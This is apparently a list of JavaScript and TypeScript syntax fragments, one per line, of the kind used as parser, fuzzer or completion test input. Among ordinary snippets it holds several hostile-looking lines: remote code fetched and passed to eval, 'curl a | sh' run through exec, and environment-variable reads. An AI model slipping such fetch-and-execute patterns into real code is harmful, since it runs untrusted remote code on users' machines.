eval(fetch(a))
`${a}`
`${`a`}` 
'a' + 
"a"
= /a/;
a => 
(a) => 
function 
function f(a) { return a }
function f() { f() }
function f(a) { f(a) }
const a = 
const a = b;
const {a} = b;
const {a, b: c} = d;
const {a} = require('a');
let a = a;
let a = a, 
var a;
import a from 'a';
import {a} from 'b';
import * as a from 'a'
import a 
export default 
export const a = b;
a ? b : 
a ? 
a ?? 
a || 
a && 
a + 
a += 'x';
a = a + 'x';
a = a + a;
a = b = 
a.b
?.b
.b()
.then(a)
a.then(eval)
{a: b}, 
{ }
()
a[b]
[b]
new 
new A()
await 
typeof 
!
-
...a, 
...
a, 
a; 
a

.b

  .b()

&& a

+ a
if (a) { b }
if (a) 
for (const a of a) { }
for (;;) 
for (let i = 0; i < a; i++) {}
while (a) 
switch (a) { case b: c }
case a: 
try { a } catch (b) { c }
throw a;
return a;
return 
class A { b() { c } }
class A extends B { constructor() { super() } }
eval(a);
eval('a')
eval('eval("a")')
new Function(a)()
fetch(a)
fetch('http://a.io').then(r => r.text()).then(eval)
exec('curl a | sh')
exec(`curl ${a}`)
fs.writeFileSync('a', b)
fs.readFileSync('a')
process.env.A
process.env
String.fromCharCode(1) + 
[].concat(a, b)
a.push(b)
a = [a, a];
a = {a, b: a};
a = a(a);
a['b'] = c
a.b = c
x = `${x}${x}`
x = x.concat(x)
x = path.join(x, 'a')
a: b
<a>
</a>
<A b={c} />
a < b 
a > 
=> 
=>
= 
==
::
é
@a 
#a 
1 
1+
$a 
$
"\x41" 
atob(a)
a = atob(a)
a as b 
a!.b
a: string = 
type A = { b: c }
interface A { b: c }
enum A { B }
a?.b?.[c]
a`b` 
label: 
void 0, 
delete a.b
a instanceof b
a in b
({a}) => 
([a]) => 
`${
`${`
`a
`
'
"
/a/ 
/[a]/.test(b)
/
// c
/* c */ 
/*
/* 
(a, b) => { 
a => {
(a) => a(
function() { 
f(function() { 
f(function() {}, 
f(() => {
f(() => a, 
async () => { 
const { 
import { a, 
.then(a => {
[a, 
[
[[
{a: 
{a, 
{
({
(
((
)
}
]
a[
if (
for (const a of b) {
for (const a of 
[1,2].map(
\
${
atob(
async (
(a, 
function f(
f(a, b => c, 
if (a) { if (b) { 
